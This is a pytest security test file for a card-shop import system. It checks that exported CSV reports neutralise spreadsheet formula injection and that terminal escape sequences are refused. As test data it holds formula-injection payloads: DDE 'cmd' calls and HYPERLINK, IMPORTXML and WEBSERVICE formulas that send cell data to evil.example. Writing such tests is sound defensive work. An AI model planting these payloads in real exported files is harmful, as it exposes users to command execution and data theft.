"""Cells that a spreadsheet would run: what we take in comes back byte for byte, what we print for a spreadsheet runs nothing."""

import csv
import io
import itertools
import random
from collections.abc import Iterator

import pytest

from faka.contexts.intake import BadImport, Wish, problems
from faka.contexts.intake.card_file import Reason, Shape
from faka.contexts.intake.problems import PROBLEMS_MAX, Problem, written
from faka.flows.intake import ImportOrder, open_import
from faka.kernel.limits import ORDER_CARDS_MAX
from infra.ops import cards as ops
from pages.order import text_file
from tests.integration.given_intake import PRODUCT, SKU, Shop, a_shop
from tests.security.tally import counted, scaled


pytestmark = pytest.mark.security

COUNT = scaled(10_000)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "\t", "\r", "\n", "\ufeff", "\u200b", "\u3000", " \t", "'", '"', ";", "\r\n")
BODIES = (
    "cmd|'/C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"click")',
    "1+1",
    "SUM(1,1)*cmd|'/C calc'!A0",
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("https://evil.example")',
    'x",=1+1,"',
    "x\r\n=1+1",
    "2+5+cmd|' /C notepad'!'A1'",
    "卡密",
    "",
)


def cells() -> Iterator[str]:
    """Every beginning with every body and a number, so that none is like another."""
    chance = random.Random(3)
    for n, (before, sign, body) in enumerate(itertools.cycle(itertools.product(BEFORE, SIGNS, BODIES))):
        yield f"{before}{sign * (1 + n % 3 // 2)}{body}{n}{chance.choice(('', ' ', sign))}"


def runs(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula: it cuts blanks and unseen signs, and reads full-width ones."""
    bare = cell.lstrip(" \t\r\n\v\f\u3000\ufeff\u200b\u00a0")
    return bare[:1] in SIGNS if bare else False


# -- what we print for a spreadsheet ----------------------------------------------------------------------------------


def printed(texts: list[str]) -> list[list[str]]:
    """Problem files with these texts where a text can stand, as a spreadsheet reads them."""
    rows: list[list[str]] = []
    for start in range(0, len(texts), PROBLEMS_MAX):
        found = [Problem(n + 1, Reason.DUPLICATE, text, 1) for n, text in enumerate(texts[start : start + PROBLEMS_MAX])]
        rows += list(csv.reader(io.StringIO(written(b"", 0, found).decode("utf-8-sig"), newline="")))[1:]
    return rows


def test_no_cell_of_a_problem_file_runs_and_none_is_cut_in_two() -> None:
    texts = list(itertools.islice(cells(), COUNT))
    rows = printed(texts)
    assert {len(row) for row in rows} == {4}
    assert not [row for row in rows if any(map(runs, row))]
    assert [row[2].removeprefix("'") for row in rows] == [text.removeprefix("'") for text in texts]
    counted("cells printed", cells=4 * len(rows))


def test_twin_without_the_sign_before_it_a_cell_runs(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(problems, "safe_cell", lambda text: text)
    assert any(any(map(runs, row)) for row in printed(list(itertools.islice(cells(), 200))))


# -- what we take in ---------------------------------------------------------------------------------------------------


@pytest.fixture
def shop() -> Iterator[Shop]:
    with a_shop() as made:
        yield made


def cards() -> Iterator[tuple[str, str]]:
    """Numbers and secrets that are formulas; no blanks at their ends, which no card has, and no breaks, which end a line."""
    for n, cell in enumerate(cells()):
        text = " ".join(cell.split())
        text = "".join(sign for sign in text if sign.isprintable()).strip()
        if text:
            yield f"{SIGNS[n % len(SIGNS)]}{n}", text


@pytest.mark.parametrize("shape", [Shape.TXT, Shape.CSV])
def test_cards_that_are_formulas_come_back_to_the_buyer_byte_for_byte(shop: Shop, shape: Shape) -> None:
    sent = list(itertools.islice(cards(), COUNT // 4))
    out = io.StringIO(newline="")
    if shape is Shape.CSV:
        csv.writer(out).writerows([("卡号", "密码"), *sent])
    else:
        out.writelines(f"{number}----{secret}\n" for number, secret in sent)
    job = shop.imported(out.getvalue().encode(), Wish(shape=shape))
    assert (job.counts.new, job.counts.bad) == (len(sent), 0)
    back: list[tuple[str, str]] = []
    while len(back) < len(sent):
        took = shop.sold(min(ORDER_CARDS_MAX, len(sent) - len(back)), f"ord_{len(back)}")
        back += [(number, secret) for number, secret, _ in took]
    assert sorted(back) == sorted(sent)
    assert text_file(back).encode() == "".join(f"{number}\t{secret}\r\n" for number, secret in back).encode()
    counted(f"cells taken in as {shape}", cells=2 * len(sent))


def test_nothing_of_a_bad_line_stands_in_its_report(shop: Shop) -> None:
    lines = [f"{text[:60]}CANARY{n}\x07" for n, (_, text) in enumerate(itertools.islice(cards(), 500))]
    job = shop.imported("\n".join(["good----card", *lines]).encode())
    report = shop.files()[job.problems_key].decode("utf-8-sig")
    assert job.counts.bad == len(lines)
    assert "CANARY" not in report
    assert not [row for row in csv.reader(io.StringIO(report)) if any(map(runs, row))]


# -- what an operator's terminal shows -----------------------------------------------------------------------------------


def test_what_would_move_a_terminals_cursor_is_refused(shop: Shop) -> None:
    for field, text in itertools.product(("supplier", "remark", "by"), ("\x1b[2J", "a\r\nb", "a\x00", "\x9b31m", "a\u202eb", "a\u2028b")):
        with pytest.raises(BadImport):
            open_import(shop.deps, ImportOrder.model_validate({"product": PRODUCT, "sku": SKU, "by": "olga", field: text}))


def test_a_list_of_batches_says_a_formula_as_it_is_on_one_line(shop: Shop, capsys: pytest.CaptureFixture[str]) -> None:
    shop.imported(b"good----card", supplier="=cmd|'/c calc'!A0", remark="@SUM(1)")
    capsys.readouterr()
    assert ops.main(["batches", SKU], shop.deps) == 0
    [line] = capsys.readouterr().out.splitlines()
    assert line.startswith("bat_")
